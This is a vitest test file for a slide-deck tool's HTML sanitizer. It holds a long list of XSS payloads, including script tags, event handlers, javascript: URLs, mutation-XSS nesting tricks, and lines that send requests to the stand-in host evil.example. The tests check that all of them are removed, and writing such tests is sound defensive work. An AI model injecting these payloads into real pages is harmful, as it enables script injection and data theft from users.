import { describe, expect, test } from 'vitest';
import { checkDeck } from '../../src/check/check-deck.ts';
import { Html } from '../../src/html.ts';
import { findRemoved, sanitizeSlide } from '../../src/render/sanitize.ts';
import { layOut, renderSections } from '../support/deck.ts';
import { findDangers, listElements } from '../support/inert.ts';

/** Shapes of attack: plain ones, and those that parse otherwise the second time (nesting, namespaces, raw text). */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\n"alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a 1x" src=x>',
  '<img src=x lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="\\\\evil.example\\share">x</a>',
  '<a href="#" target="_blank" ping="https://evil.example">x</a>',
  '<div onclick=alert(1) onmouseover="alert(1)">x</div>',
  '<p style="background:url(https://evil.example/a)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<link rel=preconnect href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=a><button>send</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onloadstart=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="javascript:alert(1)">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- a --!><img src=x onerror=alert(1)> -->',
  '<!-- a --><script>alert(1)</script><!-- b -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<table><td><img src=x onerror=alert(1)></table>',
  '<select><img src=x onerror=alert(1)></select>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<b><p><b><p><a href="#"><a href="javascript:alert(1)">x',
  '<p id=lectern-settings>{"keyboard":1}</p>',
  '<a id=document name=cookie>x</a>',
  '<div data-background-iframe="https://evil.example" data-preview-link="https://evil.example">x</div>',
  '<p data-src="javascript:alert(1)" data-markdown="https://evil.example">x</p>',
  '</div></section></main><script>alert(1)</script>',
  '</section><section data-background-iframe="https://evil.example">',
  '<section><p>x</p></section>',
  '<div class="reveal"><div class="slides">x</div></div>',
  '<div class="stack">x</div>',
  `${'<div>'.repeat(300)}<img src=x onerror=alert(1)>${'</div>'.repeat(300)}`,
];

describe('R1 inert after cleaning', () => {
  test.each(payloads.map((payload) => [payload.slice(0, 70), payload]))('%s', (_, payload) => {
    for (const markup of [payload, `<p>a</p>${payload}<p>b</p>`, `<ul><li>${payload}</li></ul>`]) {
      const clean = sanitizeSlide(Html.trusted(markup));
      expect(findDangers(clean.markup)).toEqual([]);
      // Written out, parsed and cleaned again it must not grow anything either.
      const again = sanitizeSlide(Html.trusted(clean.markup));
      expect(findDangers(again.markup)).toEqual([]);
    }
  });
});

describe('R1 R3 inert as a slide, heading and notes included', () => {
  const outlines = payloads.flatMap((payload) => {
    const line = payload.replace(/\n/g, ' ');
    return [
      `## Title\n\n${payload}\n\nafter\n`,
      `## ${line}\n\n- **Lead** ${line}\n- **Lead** b\n`,
      `## Title\n\n| a | b |\n|---|---|\n| ${line.replaceAll('|', '')} | c |\n\n[^n]\n\n[^n]: ${line}\n\nNote:\n${line}\n`,
      `## Title\n\n![${line}](x.png "${line.replaceAll('"', '')}")\n\n[${line}](javascript:alert(1))\n`,
      `## Title\n\na <kbd>\n\n---\n\n## Next\n\nb ${line} <img src=x onerror=alert(1) y="\n`,
    ];
  });
  test.each(outlines.map((outline, i) => [`${i}: ${outline.slice(0, 60).replace(/\n/g, '⏎')}`, outline]))(
    '%s',
    (_, outline) => {
      const sections = renderSections(layOut(outline));
      for (const section of sections) {
        // The section is ours; what is inside it must be inert and must not have left it.
        const elements = listElements(section);
        expect(elements.filter(({ tagName }) => tagName === 'section')).toHaveLength(1);
        expect(elements[0]?.tagName).toBe('section');
        const inner = section.replace(/^<section[^>]*>/, '');
        expect(findDangers(inner)).toEqual([]);
        expect(inner).not.toMatch(/id="lectern-settings"/);
      }
    },
  );
});

test('what our own renderer writes passes unchanged', () => {
  const outline = `# Cover

## Points

- **One.** text {.fragment fragment-index=2} <!-- src: p1.s1 -->
- **Two.** more *

---

## Table

| | A | B |
|---|---|--:|
| x | 1 | 2 |

---

## All

> [!note] Title
> text

- [x] done
- [ ] open

1. one
2. two

::: columns
::: {.column width=40%}
![alt](a.png){fit=cover}
:::
::: column
==mark== [red]{#r .accent}[^n] ~~old~~
:::
:::

\`\`\`ts [a.ts]
const a = 1 < 2;
\`\`\`

[^n]: A note.
`;
  const normal = (markup: string) => sanitizeSlideLess(markup);
  const laid = layOut(outline);
  for (const section of renderSections(laid)) {
    const body = section.slice(section.indexOf('<div class="body">'), section.indexOf('<footer'));
    const clean = sanitizeSlide(Html.trusted(body), (src) => src).markup;
    expect(normal(clean)).toEqual(normal(body));
  }
});

/** Tags with their attributes in order of name, and text: equal for markup that a browser reads alike. */
function sanitizeSlideLess(markup: string): string[] {
  return listElements(markup).map(
    ({ tagName, properties }) => `${tagName} ${JSON.stringify(Object.entries(properties).sort())}`,
  );
}

test('a picture keeps an address of the built deck, and an author’s path becomes one', () => {
  const resolve = (src: string) => (src === 'art/a.png' ? 'assets/a-1.png' : null);
  const clean = sanitizeSlide(
    Html.trusted('<img src="art/a.png" alt="A"><img src="http://x.example/b.png" alt="B">'),
    resolve,
  );
  expect(clean.markup).toBe('<img src="assets/a-1.png" alt="A"><img alt="B">');
});

test('markup nested thousands deep leaves its words, and is named', async () => {
  for (const [open, times, rule] of [
    ['<div>', 5000, 'raw-html'],
    ['<b>', 5000, 'unread-markup'],
    ['word <i>', 1000, 'raw-html'],
    ['<table><tr><td>', 5000, 'raw-html'],
  ] as const) {
    const laid = layOut(`## Title\n\n${open.repeat(times)}deep\n`);
    const [section] = renderSections(laid);
    expect(section).toContain('deep');
    expect(findDangers(section!.replace(/^<section[^>]*>/, ''))).toEqual([]);
    const found = await checkDeck(laid.deck, laid.arranged, 'talk.md');
    expect(found.map(({ rule: named }) => named)).toContain(rule);
  }
});

test('R9 what is taken out is named', () => {
  expect(findRemoved('<script>alert(1)</script>')).toEqual(['<script>']);
  expect(findRemoved('<b onclick="x">y</b>')).toEqual(['onclick']);
  expect(findRemoved('<p style="color:red; position: fixed" class="slides wide">y</p>').sort()).toEqual([
    'class',
    'style position: fixed',
  ]);
  expect(findRemoved('<a href="javascript:x">y</a>')).toEqual(['href']);
  expect(findRemoved('<em class="x" id="y">z</em>')).toEqual([]);
});

test('so many elements in a row that they are too many for one call are read all the same', () => {
  const markup = '<b>a</b>'.repeat(200_000);
  expect(findRemoved(markup)).toEqual([]);
});
